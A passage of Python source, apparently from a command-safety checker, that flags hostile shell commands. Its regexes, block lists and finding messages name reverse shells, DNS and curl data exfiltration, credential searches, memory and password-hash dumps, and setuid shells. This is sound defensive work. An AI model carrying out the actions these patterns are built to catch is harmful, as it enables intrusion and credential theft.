    r"^(/dev/shm|/run/shm|/var/tmp|/private/var/tmp)/|/\.(?!(local|cargo|rustup|venv|nvm|npm|pyenv|rbenv|"
    r"sdkman|deno|bun|go|gradle|m2|cache|config|git|github|vscode|devcontainer|husky|tox|nox|yarn|pnpm|asdf|"
    r"volta|dotnet|gem|conda|mamba|virtualenvs|pixi|ghcup|opam|poetry|build|next|terraform)(/|$))[^/]+/")


def _staged_run(cmd: Command) -> str | None:
    """A relative program path (`./x`) run after a `cd` into a place where payloads are staged: resolved
    against that working directory, it is no longer the project's own script."""
    word = cmd.argv[0].replace("\\", "/") if cmd.argv[0].startswith(".\\") else cmd.argv[0]  # .\x.exe is ./x
    if not cmd.cwd or "/" not in word or word.startswith(("/", "~")) or program_effects(cmd.name) is not None:
        return None
    path = resolve_path(word, cmd.cwd)
    if path and _STAGED_RUN.search(path):
        return f"runs {display_path(path)}, a program in a folder where payloads are staged"
    return None


_RX_SHELL_SPAWN = re.compile(r"(exec|system):")
_RX_SHELL_SPAWN_2 = re.compile(r"[-/](e|ec|enc|encodedcommand|en|enco|encod)")


def _named_script_file(word: str) -> bool:
    """`script.bat`, `./script`, `C:\\tools\\script.cmd`: a script file of that name, not util-linux `script`."""
    base = word.replace("\\", "/").rsplit("/", 1)[-1].lower()
    return "/" in word or "\\" in word or base != "script"


def shell_spawn(cmd: Command, analysis: ShellAnalysis, where: str, add: Add) -> None:
    """A shell with no script, no -c and no input: an interactive shell, often a sandbox escape."""
    if cmd.name == "script" and not _named_script_file(cmd.argv[0]) and \
            not any(a in ("-c", "--command") or a.startswith("--command=") for a in cmd.argv[1:]):
        add(Finding("confirm.shell.shell-spawn", Risk.HIGH, f"script starts an interactive shell{where}", cmd.span))
        return
    if cmd.name == "socat" and any(_RX_SHELL_SPAWN.match(w) for w in cmd.words[1:]):
        add(Finding("confirm.shell.shell-spawn", Risk.HIGH, f"socat starts a program on a socket or pty{where}",
                    cmd.span))
        return
    if cmd.name in ("powershell", "pwsh") and any(_RX_SHELL_SPAWN_2.fullmatch(w)
                                                  for w in cmd.words[1:]):
        add(Finding("confirm.shell.obfuscated", Risk.HIGH, f"{cmd.name} runs a base64-encoded command{where}",
                    cmd.span))
        return
    if cmd.name in _REPLS and len(cmd.argv) == 1 and not cmd.upstream and cmd.stdin_text is None and \
            not any(op.startswith("<") for op, _ in cmd.redirects):
        add(Finding("confirm.shell.shell-spawn", Risk.MEDIUM,
                    f"starts an interactive {cmd.name} prompt: what it will run is unknown{where}", cmd.span))
        return
    if cmd.name not in SHELLS or cmd.upstream or cmd.stdin_text is not None:
        return
    if any(op in ("<", "<<", "<<<", "<>") for op, _ in cmd.redirects):
        return
    # `sh 0<&2` parses the fd number as a word: digits before a redirect are not a script
    args = [a for a in cmd.argv[1:] if not (a.isdigit() and cmd.redirects)]
    for a in args:
        if a.startswith("-") and len(a) > 1 and not a.startswith("--") and "c" in a[1:]:
            return
        if not a.startswith(("-", "+")):
            return  # a script file
    if cmd.via and cmd.via[-1] in ("docker exec", "podman exec", "kubectl exec"):
        return  # a shell inside a container: the container's business, judged by what it runs
    how = f" (through {cmd.via[-1]})" if cmd.via else ""
    add(Finding("confirm.shell.shell-spawn", Risk.HIGH,
                f"starts an interactive shell {cmd.argv[0]}{how}: what it will run is unknown{where}", cmd.span))


_REPLS = frozenset({"python", "python2", "python3", "pypy", "pypy3", "ipython", "node", "nodejs", "irb", "pry",
                    "perl", "ruby", "lua", "luajit", "php", "cpan", "jshell", "ghci", "tclsh", "wish", "expect",
                    "jrunscript", "jjs", "rlwrap", "byebug", "csi", "scala", "clojure", "sqlite3", "gdb", "lldb",
                    "ftp", "ed", "busybox"})


_SERVERS = frozenset({"php", "busybox", "http-server", "serve", "npx", "ruby", "twistd", "updog", "miniserve",
                      "darkhttpd", "webfsd"})
_SERVE_DIR_FLAGS = {"php": ("-t",), "busybox": ("-h",), "twistd": ("--path",), "webfsd": ("-r",),
                    "python": ("-d", "--directory"), "ruby": ()}


_X_TERMINALS = frozenset({"xterm", "uxterm", "urxvt", "rxvt", "aterm", "eterm", "st"})
_REMOTE_DISPLAY = re.compile(r"^(?!(localhost|127\.[\d.]+|unix)?:)[\w.-]+:\d+(\.\d+)?$", re.I)


_RX_REMOTE_DISPLAY = re.compile(r"\bDISPLAY=['\"]?([\w.:-]+)")


def remote_display(cmd: Command, analysis: ShellAnalysis, where: str, add: Add) -> None:
    """An X terminal opened on another machine's display (`xterm -display HOST:1`): a shell handed to that
    host, the X11 form of a reverse shell."""
    words = list(cmd.argv[1:])
    shown = [words[k + 1] for k, w in enumerate(words[:-1]) if w in ("-display", "--display", "-d")]
    shown += [v for n, v in analysis.assignments if n == "DISPLAY"]
    shown += _RX_REMOTE_DISPLAY.findall(cmd.span)  # `DISPLAY=host:0 xterm`
    if any(_REMOTE_DISPLAY.match(v) for v in shown):
        add(Finding("block.shell.reverse-shell", Risk.CRITICAL,
                    f"{cmd.name} opens a terminal on a remote X display: a shell for that host{where}", cmd.span))


_RX_FILE_SERVER = re.compile(r"[\d.:]+")


def file_server(d: Detector, cmd: Command, where: str, add: Add) -> None:
    """A web/file server whose root is the file system or a whole home (python -m http.server --directory ~,
    php -S 0.0.0.0:80 -t /, miniserve ~): every file there, keys included, can be fetched from the network."""
    name = cmd.name
    words = list(cmd.argv[1:])
    low = [w.lower() for w in words]
    base = "python" if name in ("http.server", "simplehttpserver") else name  # `python3 -m http.server`
    if base == "php" and "-s" not in [w.lower() for w in words if w.startswith("-")] and "-S" not in words:
        return
    if base == "busybox" and low[:1] != ["httpd"]:
        return
    if base == "ruby" and not any("httpd" in w for w in low):
        return
    if base == "npx" and low[:1] not in (["http-server"], ["serve"]):
        return
    roots = [words[k + 1] for k, w in enumerate(words[:-1]) if w in _SERVE_DIR_FLAGS.get(base, ())]
    roots += [w.split("=", 1)[1] for w in words if w.startswith(("--directory=", "--path=", "--DocumentRoot="))]
    if base in ("http-server", "serve", "npx", "miniserve", "updog", "darkhttpd"):
        roots += [w for w in words if not w.startswith("-") and w not in ("http-server", "serve")
                  and not _RX_FILE_SERVER.fullmatch(w)][:1]
    if not roots and cmd.cwd in (HOME, "/"):
        roots = ["~" if cmd.cwd == HOME else "/"]  # `cd ~ && python3 -m http.server`: it serves where it runs
    for r in roots:
        path = resolve_path(r, cmd.cwd or None)
        if path and (_WHOLE_HOME.match(path) or path == HOME or d.secret_dir(path)):
            add(Finding("block.shell.exfiltration", Risk.CRITICAL,
                        f"{name} serves {r} (the file system or a whole home) to the network{where}", cmd.span))
            return


def _reads_whole_home(d: Detector, c: Command) -> str | None:
    if c.name not in _ARCHIVERS and c.name not in ("rsync", "scp", "rclone"):
        return None
    for i, a in _operands(c):
        if i in c.dynamic:
            continue
        path = resolve_path(a, c.cwd or None)
        if path and (_WHOLE_HOME.match(path) or d.secret_dir(path)):
            return a
    return None


_DATA_SOURCES = frozenset({"cat", "base64", "base32", "xxd", "od", "hexdump", "env", "printenv", "id", "whoami",
                           "hostname", "uname", "ls", "tar", "gzip", "head", "tail", "split", "find", "grep"})
_FILE_MOVERS = frozenset({"scp", "rsync", "sftp", "rclone", "ftp", "lftp", "smbclient", "aws", "gsutil", "s3cmd",
                          "azcopy", "mc", "tftp"})
_IDENTITY = frozenset({"env", "printenv", "id", "whoami", "hostname", "uname", "ls", "find", "history", "set"})
_PERSONAL = re.compile(r"^/home/[^/]+/(documents|desktop|pictures|photos|downloads|mail|music|videos|dropbox|"
                       r"onedrive|google drive)(/|$)", re.I)
_LOCAL_URL_WORD = re.compile(r"^(https?://)?(localhost|127\.|0\.0\.0\.0|\[::1\])", re.I)
# a name built at run time: a substitution or variable before `.label.tld`, or `$(` after `.tld` or `?&=/` in
# one word. Matched in parts (the first start, then what follows it): one regex with `.*`/`\S*` between them
# rescanned the rest of a long word from every start (quadratic).
_HOSTISH_START = re.compile(r"\$\(|`|\$\{?[a-z_]", re.I)
_HOSTISH_NAME = re.compile(r"\.[a-z0-9-]+\.[a-z]{2,}", re.I)
_HOSTISH_TLD = re.compile(r"\.[a-z]{2,}|[?&=/]", re.I)
_RUN = re.compile(r"\S+")


def _hostish(word: str) -> bool:
    for line in word.split("\n"):
        m = _HOSTISH_START.search(line)
        if m is not None and _HOSTISH_NAME.search(line, m.end()):
            return True
    if "$(" not in word:
        return False
    for run in _RUN.finditer(word):
        t = _HOSTISH_TLD.search(word, run.start(), run.end())
        if t is not None and word.find("$(", t.end(), run.end()) >= 0:
            return True
    return False


_RX_EXFILTRATION = re.compile(r"^([\w.-]+@)?[\w.-]+:")
_RX_EXFILTRATION_2 = re.compile(r"(tcp|udp|openssl|ssl)[46]?(-connect)?:")
_RX_EXFILTRATION_3 = re.compile(r"^(file|open|gopen):", re.I)
_RX_EXFILTRATION_4 = re.compile(r"(file|open|gopen):", re.I)
_RX_EXFILTRATION_5 = re.compile(r"^([\w.-]+@)?[\w.-]+:")


# options of the web clients whose next word is data sent, a header or a file uploaded, never the address
_DATA_OPTIONS = frozenset({"-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "-F", "--form", "-H",
                           "--header", "-T", "--upload-file", "--post-data", "--post-file", "--body-data",
                           "--body-file", "-u", "--user", "-b", "--cookie", "-A", "--user-agent", "-e", "--referer"})
_WHOLE_SUBST = re.compile(r"^(?:\$\([^()]*(?:\([^()]*\)[^()]*)*\)|`[^`]*`)$")


def _address_only(cmd: Command) -> bool:
    """curl/wget/http/xh whose run-time words are each a whole command substitution standing where the address goes
    (not after an option that sends data, a header or a file): the output is the address fetched."""
    if cmd.name not in ("curl", "wget", "http", "https", "xh", "xhs") or not cmd.dynamic:
        return False
    return all(_WHOLE_SUBST.match(cmd.argv[i]) and cmd.argv[i - 1] not in _DATA_OPTIONS for i in cmd.dynamic)



# a secret-named variable standing as a label of a name (`$GITHUB_TOKEN.x.example`, `${API_KEY}.d.example`)
_DNS_SECRET_LABEL = re.compile(r"\$\{?[A-Za-z0-9_]*(?:secret|token|passw|api_?key|access_?key|private_?key|"
                               r"credential|session)[A-Za-z0-9_]*\}?(?=\.|$)", re.I)


def exfiltration(d: Detector, cmd: Command, analysis: ShellAnalysis, where: str, add: Add) -> None:
    name = cmd.name
    cmds = analysis.commands
    if name in _DNS_TOOLS and any(i in cmd.dynamic and _hostish(cmd.argv[i]) for i in range(1, len(cmd.argv))):
        if cmd.subst or any(c.name in _DATA_SOURCES for c in cmds):
            add(Finding("block.shell.exfiltration", Risk.CRITICAL,
                        f"{name} looks up a name built from command output: data leaves through DNS{where}", cmd.span))
        elif (held := next((m.group(0) for i in cmd.dynamic if i < len(cmd.argv) and
                            (m := _DNS_SECRET_LABEL.search(cmd.argv[i]))), None)) is not None:
            # a secret-named variable as a label of the name looked up: the resolver chain carries it to whoever
            # runs the domain's name server
            add(Finding("block.shell.credential-exfiltration", Risk.CRITICAL,
                        f"{name} looks up a name built from {held}: the secret leaves through DNS{where}", cmd.span))
        else:
            add(Finding("confirm.shell.network", Risk.MEDIUM,
                        f"{name} looks up a name built at run time{where}", cmd.span))
        return
    if name == "ping" and any(a == "-p" for a in cmd.argv) and cmd.subst:
        add(Finding("block.shell.exfiltration", Risk.CRITICAL, f"ping -p carries command output{where}", cmd.span))
        return
    if name not in _NET_SINKS:
        return
    # the data that goes with it: its stdin (pipeline, redirect), its operands (scp/rsync), substitutions
    feeders = [cmds[i] for i in cmd.upstream]
    home = next((h for c in feeders if (h := _reads_whole_home(d, c))), None)
    if home is None and name in ("scp", "rsync", "rclone", "sftp") and \
            any(_RX_EXFILTRATION.match(a) for a in cmd.argv[1:]):
        home = _reads_whole_home(d, cmd)
    if home:
        add(Finding("block.shell.exfiltration", Risk.CRITICAL,
                    f"sends {home} (a whole home or key directory) off the machine ({name}){where}", cmd.span))
        return
    # command output in a request's data, headers, URL or query (file-transfer tools take file names there)
    if cmd.subst and name not in _FILE_MOVERS and any(i in cmd.dynamic for i in range(1, len(cmd.argv))):
        readers = [cmds[i] for i in cmd.subst]
        source = next((c for c in readers if c.name in _DATA_SOURCES and
                       (c.name not in ("cat", "base64", "head", "tail", "xxd", "tar", "gzip", "grep") or
                        len(c.argv) > 1 or c.upstream)), None)
        urls = [a for a in cmd.argv[1:] if "://" in a]
        if source is not None and not urls and _address_only(cmd):
            # `curl -L "$(tool latest-url)" -o x`: what the command prints is the address fetched, no data sent
            add(Finding("confirm.shell.network", Risk.MEDIUM,
                        f"{name} fetches the address that {source.name} prints{where}", cmd.span))
            return
        if source is not None and not (urls and all(_LOCAL_URL_WORD.match(a) for a in urls)):
            files = [a for _, a in _operands(source)]
            # identity, environment, listings and files outside the project: reconnaissance data leaving
            encoded = any(c.name in ("base64", "base32", "xxd", "od", "hexdump", "gzip", "basenc") for c in readers)
            if source.name in _IDENTITY or encoded or any(a.startswith(("/", "~", "$home")) for a in files) or \
                    source.upstream:
                add(Finding("block.shell.exfiltration", Risk.CRITICAL,
                            f"{name} sends the output of {source.name} to a remote host{where}", cmd.span))
            else:
                add(Finding("confirm.shell.network", Risk.MEDIUM,
                            f"{name} sends the content of {' '.join(files[:1]) or source.name} to a remote host"
                            f"{where}", cmd.span))
            return
    staged = _staged_secrets(d, _before(analysis, cmd)) if len(cmds) > 1 else {}
    if staged:
        sent = [a.lstrip("@") for a in cmd.argv[1:]] + [a.split("@", 1)[1] for a in cmd.argv[1:] if "=@" in a] + \
            [t for op, t in cmd.redirects if op == "<"]
        hit = next((staged[_run_key(a)] for a in sent if _run_key(a) in staged), None)
        if hit:
            add(Finding("block.shell.exfiltration", Risk.CRITICAL,
                        f"{name} sends a file packed from {hit} (keys or credentials) off the machine{where}",
                        cmd.span))
            return
    # a database's whole content piped out: a dump is the data itself, whatever its name
    dump = next((c for c in feeders if c.name in _DB_DUMPERS), None)
    if dump is not None and not _local_only(cmd):
        dest = risky_destination(cmd.words[1:])
        if dest:
            add(Finding("block.shell.exfiltration", Risk.CRITICAL,
                        f"sends a database dump ({dump.name}) to {dest}, a bare address or a file-drop site "
                        f"({name}){where}", cmd.span))
        else:
            add(Finding("confirm.shell.network", Risk.HIGH,
                        f"sends a database dump ({dump.name}) to another machine ({name}){where}", cmd.span))
        return
    local = [t for op, t in cmd.redirects if op == "<"]
    texts: list[str] = []
    if name == "socat" and any(_RX_EXFILTRATION_2.match(w) for w in cmd.words[1:]):
        local += [_RX_EXFILTRATION_3.sub("", a).split(",", 1)[0] for a in cmd.argv[1:]
                  if _RX_EXFILTRATION_4.match(a)]
    for c in feeders:
        if c.name in ("echo", "printf"):  # (their words are the text sent, not files)
            local += [t for op, t in c.redirects if op == "<"]
            texts += [a for i, a in _operands(c) if i not in c.dynamic]
            continue
        if c.name in ("cat", "tac", "head", "tail", "base64", "xxd", "tar", "zip", "gzip", "dd") or \
                (program_effects(c.name) or frozenset()) & {"read"}:
            local += [a for i, a in _operands(c) if i not in c.dynamic and a != "-"]
        local += [t for op, t in c.redirects if op == "<"]
    local = [p for p in local if not p.startswith("/dev/") and p not in ("-",)]
    if local or name in _FILE_MOVERS:
        dest = risky_destination(cmd.words[1:])
        packed = [c for c in feeders if c.name in _ARCHIVERS]
        if dest and _sends_personal(cmd, feeders, local):
            add(Finding("block.shell.exfiltration", Risk.CRITICAL,
                        f"sends {_sends_personal(cmd, feeders, local)} (personal files) to {dest}, a bare address "
                        f"or a file-drop site ({name}){where}", cmd.span))
            return
        if name == "ssh" and packed:
            add(Finding("confirm.shell.network", Risk.HIGH,
                        f"packs {' '.join(a for _, a in _operands(packed[0]))[:60] or 'files'} and sends them to "
                        f"another machine (ssh){where}", cmd.span))
    if name in ("scp", "rsync", "rclone", "sftp") and any(_RX_EXFILTRATION_5.match(a) for a in cmd.argv[1:]):
        personal = next((a for _, a in _operands(cmd) if _PERSONAL.search(resolve_path(a, cmd.cwd or None) or a)),
                        None)
        if personal:
            add(Finding("confirm.shell.network", Risk.HIGH,
                        f"sends {personal} (personal files) to a remote host ({name}){where}", cmd.span))
    clip = next((c.name for c in feeders if c.name in ("pbpaste", "xclip", "xsel", "wl-paste", "get-clipboard")), None)
    if clip and name not in ("ssh",):
        add(Finding("confirm.shell.network", Risk.HIGH, f"sends the clipboard ({clip}) to a remote host ({name})"
                    f"{where}", cmd.span))
    if local and name not in ("ssh",):
        add(Finding("confirm.shell.network", Risk.HIGH,
                    f"sends the local file {local[0]} to a remote host ({name}){where}", cmd.span))
    elif texts and name not in ("ssh",):
        add(Finding("confirm.shell.network", Risk.MEDIUM,
                    f"sends the text '{' '.join(texts)[:60]}' to a remote host or address ({name}){where}", cmd.span))


# programs whose output is a database's content (tables, documents, keys)
_DB_DUMPERS = frozenset({"pg_dump", "pg_dumpall", "mysqldump", "mariadb-dump", "mysqlpump", "mongodump",
                         "mongoexport", "redis-dump", "sqlcmd-dump", "mydumper", "cockroach-dump"})
_LOCAL_HOST_WORD = re.compile(r"^([a-z][\w+.-]*://)?(localhost|127\.[\d.]+|\[?::1\]?)([:/]|$)", re.I)


def _local_only(cmd: Command) -> bool:
    """Every host-like operand of a network sender is this machine (a dump piped to a local service)."""
    hosts = [a for a in cmd.argv[1:] if not a.startswith("-") and ("://" in a or "." in a or a == "localhost")]
    return bool(hosts) and all(_LOCAL_HOST_WORD.match(a) for a in hosts)


def _sends_personal(cmd: Command, feeders: list[Command], local: list[str]) -> str | None:
    """A personal folder (Documents, Desktop, Pictures, ...) among what this command sends."""
    words = [*local, *(a for _, a in _operands(cmd))]
    for c in feeders:
        if c.name in _ARCHIVERS:
            words += [a for _, a in _operands(c)]
    return next((a for a in words if _PERSONAL.search(resolve_path(a, cmd.cwd or None) or a)), None)


_RX_CREDENTIAL_SEARCH = re.compile(r"/[a-z:]*s[a-z:]*", re.I)
# find's -perm values that pick setuid or setgid programs (a search for files anyone may write is the audit the
# hardening benchmarks run, and lists what to fix: it passes)
_RX_CREDENTIAL_SEARCH_2 = re.compile(r"[-/+]?(u[=+]s|g[=+]s|[0-7]?[4267][0-7]{3}|[-/]?[246]000)")


def credential_search(d: Detector, cmd: Command, analysis: ShellAnalysis, where: str, add: Add) -> None:
    name = cmd.name
    words = cmd.argv[1:]
    if name in _SEARCHERS:
        if name == "git" and (not words or words[0] != "grep"):
            return
        recursive = name in ("rg", "rga", "ag", "ack", "git", "ugrep") or any(
            w in ("-r", "-R", "--recursive", "-d", "/s") or (w.startswith("-") and not w.startswith("--") and
                                                          ("r" in w[1:] or "R" in w[1:])) for w in words) or (
            name == "findstr" and any(_RX_CREDENTIAL_SEARCH.fullmatch(w) for w in words))  # /si, /s /i
        if not recursive and len(analysis.commands) > 1:
            _memory_searched(cmd, analysis, where, add)
        if (shape := token_format([w for w in words if not w.startswith("-")][:2] + [
                words[k + 1] for k, w in enumerate(words[:-1]) if w in ("-e", "--regexp")])) is not None:
            add(Finding("confirm.shell.credential-search", Risk.HIGH,
                        f"{name} searches for {shape[:40]!r}, the format of a key or token: every one in the "
                        f"files searched is printed{where}", cmd.span))
            return
        option = ("-", "/") if name == "findstr" else ("-",)
        patterns = [w for w in words[1 if name == "git" else 0:] if not w.startswith(option)][:1]
        patterns += [words[k + 1] for k, w in enumerate(words[:-1]) if w in ("-e", "--regexp", "-E", "-P") or
                     (name != "findstr" and _E_CLUSTER.fullmatch(w))]  # `-ie PATTERN`: -e last in a cluster
        hit = next((p for p in patterns if _SECRET_WORDS.search(p) or _SECRET_WORDS.search(_plain(p))), None)
        if not recursive:
            if hit and (kept := collected_into(cmd, analysis)):
                add(Finding("confirm.shell.credential-search", Risk.HIGH,
                            f"{name} gathers the lines that hold {hit!r} into {kept[:60]}: credentials collected "
                            f"to be used or taken later{where}", cmd.span))
            return
        explicit = {words[k + 1] for k, w in enumerate(words[:-1]) if w in ("-e", "--regexp", "-E", "-P") or
                    (name != "findstr" and _E_CLUSTER.fullmatch(w))}
        plain = [w for w in words[1 if name == "git" else 0:] if not w.startswith(option) and w not in explicit]
        if hit and any(_WHOLE_SYSTEM.match(w) for w in (plain if explicit else plain[1:])):
            # every file of the machine (or of every user) searched for passwords and keys, the matching lines
            # printed: what a credential harvester does (ATT&CK T1552.001), not a look through one's project
            add(Finding("block.shell.credential-read", Risk.CRITICAL,
                        f"{name} prints every line that holds {hit!r} in every file of the machine or of every "
                        f"user{where}", cmd.span))
        if hit:
            add(Finding("confirm.shell.credential-search", Risk.HIGH,
                        f"{name} searches files recursively for {hit!r}: credential harvesting{where}", cmd.span))
        return
    if name == "find" and any(words[k] == "-perm" and _RX_CREDENTIAL_SEARCH_2.fullmatch(words[k + 1])
                              for k in range(len(words) - 1)):
        add(Finding("confirm.shell.recon", Risk.MEDIUM, f"find -perm looks for setuid or setgid programs "
                    f"(privilege-escalation footholds){where}", cmd.span))
        return
    if name == "getcap" and any(w in ("-r", "-R") for w in words):
        add(Finding("confirm.shell.recon", Risk.MEDIUM, f"getcap -r looks for programs with capabilities{where}",
                    cmd.span))
        return
    if name in ("find", "locate", "mlocate", "plocate", "fd", "fdfind", "get-childitem", "gci", "dir", "where"):
        if name == "find":
            vals = [words[k + 1] for k, w in enumerate(words[:-1])
                    if w in ("-name", "-iname", "-path", "-ipath", "-regex", "-iregex", "-wholename")]
        else:
            vals = [w for w in words if not w.startswith("-")]
        hit = next((v for v in vals if _KEY_NAMES.search(v)), None)
        if hit is None and any("$" in v for v in vals):
            # `for e in .pem .key .ppk; do find / -name "*$e"; done`: the names come from a loop's own list
            for m in _FOR_LIST.finditer(analysis.source):
                var = m.group(1)
                if any(f"${var}" in v or f"${{{var}}}" in v for v in vals) and _KEY_NAMES.search(m.group(2)):
                    hit = f"{m.group(2).strip()[:60]} (a loop's names)"
                    break
        gathered = next((c.name for c in analysis.commands if _positions(analysis).get(id(cmd)) in c.upstream and
                         (c.name in _GATHERERS or (c.name == "xargs" and _GATHERERS.intersection(c.argv[1:])))),
                        None) if hit else None
        if gathered:
            # the key and credential files a search finds handed to an archiver, a copy or a network tool: the
            # whole set gathered to take away (ATT&CK T1552.004 with T1560/T1074)
            add(Finding("block.shell.credential-read", Risk.CRITICAL,
                        f"{name} finds key or credential files ({hit}) and {gathered} gathers them{where}", cmd.span))
        if hit:
            add(Finding("confirm.shell.credential-search", Risk.HIGH,
                        f"{name} looks for key or credential files ({hit}){where}", cmd.span))


def _memory_searched(cmd: Command, analysis: ShellAnalysis, where: str, add: Add) -> None:
    """A process's memory dumped (gcore, procdump, gdb's generate-core-file) and searched for passwords or tokens on
    the same line: credentials taken out of a running program (ATT&CK T1003.007; `block.shell.credential-dump`).
    The dump alone asks as a debugger's work does."""
    dumper = next((c.name for c in analysis.commands if c.name in _MEMORY_DUMPERS or
                   (c.name in ("gdb", "lldb") and _CORE_VERBS.search(" ".join(c.words[1:])))), None)
    if dumper is None:
        return
    hit = next((w for w in cmd.argv[1:] if _MEMORY_SECRETS.search(w)), None)
    if hit:
        add(Finding("block.shell.credential-dump", Risk.CRITICAL,
                    f"{dumper} dumps a process's memory and {cmd.name} searches it for {hit!r}{where}", cmd.span))


_E_CLUSTER = re.compile(r"-[a-zA-Z]+e")
# programs that write a running process's memory to a file (core dumps, minidumps)
_MEMORY_DUMPERS = frozenset({"gcore", "procdump", "procdump64", "createdump", "dotnet-dump", "minidump",
                             "memdump", "avml", "lime", "winpmem", "dumpit", "rekall"})
_CORE_VERBS = re.compile(r"gcore|generate-core-file|process save-core|dump memory")
_MEMORY_SECRETS = re.compile(r"pass(w|\b|$)|secret|token|api[_-]?key|credential|bearer|cookie|private", re.I)
# the roots of a whole machine: /, the homes, a Windows drive or its users' folders
_WHOLE_SYSTEM = re.compile(r"^(/+|/home/?|/users/?|/root/?|[a-z]:[\\/]?|[a-z]:[\\/]users[\\/]?)$", re.I)
# what takes a list of found files away together: archivers, copies, network tools
_GATHERERS = frozenset({"tar", "gtar", "bsdtar", "zip", "7z", "7za", "cpio", "rar", "cp", "rsync", "scp", "curl",
                        "nc", "ncat", "rclone", "compress-archive", "copy-item"})
_CHAR_CLASS = re.compile(r"\[[^\]]*\]")
_REGEX_SIGNS = re.compile(r"[\\.?*+()^$]")


def _plain(pattern: str) -> str:
    """A search pattern with its regex syntax taken out (`api[_-]key` → `api_key`, `pass(word)?` →
    `password`), so the words it looks for can be read."""
    if "[" not in pattern and not _REGEX_SIGNS.search(pattern):
        return pattern
    return _REGEX_SIGNS.sub("", _CHAR_CLASS.sub("_", pattern))


_FILE_SCHEME = re.compile(r"^(file://|(file|open|gopen|create):)", re.I)
_PROGRAM_START = re.compile(r"[\w.~/]|\[[\w.]+\]")  # (`[Type]::Member`: a .NET call, gate/winshell.py)




# (procdump is a debugger's dump tool: it dumps credentials when pointed at LSASS, which is judged by what it names)
_DUMPERS = frozenset({"unshadow", "mimikatz", "invoke-mimikatz", "pypykatz", "lazagne", "secretsdump.py",
                      "secretsdump"})


# every program a check of `severity` names (chmod, setcap, sysctl, copies, rsync, dd, crontab, at, tee, ...)
_SEVERITY_NAMES = frozenset({"chmod", "install", "setcap", "sysctl", "tee", *_WIN_COPIERS, "rsync", "cp", "mv", "ln",
                             "dd", "crontab", "at", "batch"})


_RX_SEVERITY = re.compile(r"[0-7]{3,4}|[ugoa]*[+=][rwxXst]*s[rwxXst]*")
_RX_SEVERITY_2 = re.compile(r"[4267][0-7]{3}")
_RX_SEVERITY_3 = re.compile(r"\\(sam|security|system)$")
_RX_SEVERITY_4 = re.compile(r"kernel\.sysrq=")


def severity(d: Detector, cmd: Command, analysis: ShellAnalysis, where: str, add: Add,
             written: dict[str, str]) -> None:
    """Clearly hostile effects that block rather than ask."""
    name = cmd.name
    words = cmd.argv[1:]  # (read only: the tuple itself, no copy)
    cmds = analysis.commands
    special = name in _SEVERITY_NAMES  # the checks below that name programs apply to these only
    if special:
        # SUID/SGID on a shell or interpreter (or a copy of one made in the same command)
        if name in ("chmod", "install"):
            mode = next((w for w in words if _RX_SEVERITY.fullmatch(w)), "")
            if name == "install":
                mode = next((words[k + 1] for k, w in enumerate(words[:-1]) if w in ("-m", "--mode")), "")
            setid = bool(_RX_SEVERITY_2.fullmatch(mode)) or "s" in mode.split("+")[-1] if mode else False
            if setid:
                copies = {c.argv[-1].removeprefix("./") for c in cmds
                          if c.name in ("cp", "install", "ln", "mv", "cat", "rsync") and len(c.argv) > 2 and
                          any(_INTERPRETER_PATH.search(a.lower()) for a in c.argv[1:-1])}
                copies |= {t.removeprefix("./") for c in cmds if c.name == "cat" and c.argv[1:] and
                           _INTERPRETER_PATH.search(c.argv[1].lower()) for op, t in c.redirects if op == ">"}
                for _, a in _operands(cmd):
                    if a == mode:
                        continue
                    if _INTERPRETER_PATH.search(a.lower()) or a.removeprefix("./") in copies:
                        add(Finding("block.shell.suid-shell", Risk.CRITICAL,
                                    f"{name} {mode} {a}: a setuid shell or interpreter gives root to anyone{where}",
                                    cmd.span))
                        return
                    staged = resolve_path(a, cmd.cwd or None) or a
                    if _SETUID_MODE.fullmatch(mode) and _STAGED_COPY.search(staged) and \
                            staged.rstrip("/") not in _STAGING_ROOTS:
                        # a setuid or setgid program kept in a temporary or hidden folder: nothing installs one
                        # there; it is a way back to the owner's rights for whoever runs it (ATT&CK T1548.001)
                        add(Finding("block.shell.suid-shell", Risk.CRITICAL,
                                    f"{name} {mode} {a}: a setuid program in a temporary or hidden folder{where}",
                                    cmd.span))
                        return
        if name == "setcap" and any("cap_setuid" in w.lower() or "cap_sys_admin" in w.lower() or
                                    "cap_dac_override" in w.lower() for w in words) and \
                any(_INTERPRETER_PATH.search(w.lower()) for w in words):
            add(Finding("block.shell.suid-shell", Risk.CRITICAL,
                        f"setcap gives an interpreter root capabilities{where}", cmd.span))
    # password database dumps
    reads = []
    # any program given the file may leak it (date -f, file -f, diff, sort -m); a read kept below starts
    # with /, ~ or c:, and each is a part of one argument: arguments with none of those read nothing here
    if name not in _METADATA and ("/" in (args := "".join(cmd.argv[1:])) or "~" in args or "c:" in args or
                                  "C:" in args):
        for i, a in enumerate(cmd.argv[1:], 1):
            if i not in cmd.dynamic:
                a = a.split("=", 1)[1] if a.startswith("-") and "=" in a else a
                if ":" in a:  # curl file://, socat FILE:
                    a = _FILE_SCHEME.sub("", a)
                reads.append(a.split(",", 1)[0] if name == "socat" else a)
    if cmd.redirects:
        reads += [t for op, t in cmd.redirects if op == "<"]
    if name in ("dd", "dc3dd", "dcfldd"):
        reads += [a[3:] for a in cmd.argv[1:] if a.startswith("if=")]
    if reads:
        reads = [r for r in reads if r.startswith(("/", "~", "c:", "C:"))]
    for r in reads:
        path = resolve_path(r, cmd.cwd or None) or r.lower()
        if d.credential_dump(path):
            add(Finding("block.shell.credential-dump", Risk.CRITICAL,
                        f"{name} reads {path}: the system's password hashes{where}", cmd.span))
            break
    if (name in _DUMPERS and {"-h", "--help", "-help", "/?"}.isdisjoint(words)) or \
            (name == "reg" and words[:1] and words[0].lower() == "save" and
             any(_RX_SEVERITY_3.search(w.lower()) for w in words)):
        add(Finding("block.shell.credential-dump", Risk.CRITICAL, f"{name} dumps stored credentials{where}",
                    cmd.span))
    elif name not in _METADATA and len(cmd.words) > 1 and \
            (not (joined := " ".join(cmd.words[1:])).isascii() or _WIN_CRED_WORDS.search(joined)) and \
            _WIN_CRED_STORE.search(joined) is not None and not _WIN_CRED_LISTING.search(joined):
        # Windows credential stores by what is named: the LSASS process memory, the SAM/SECURITY/SYSTEM
        # hives under system32\config, the domain database ntds.dit (copied, dumped or snapshotted)
        add(Finding("block.shell.credential-dump", Risk.CRITICAL,
                    f"{name} copies or dumps a Windows credential store{where}", cmd.span))
    # sysrq: crash, reboot or kill everything at once
    for op, t in cmd.redirects:
        if op in (">", ">>") and _SYSRQ.match(resolve_path(t, cmd.cwd or None) or t):
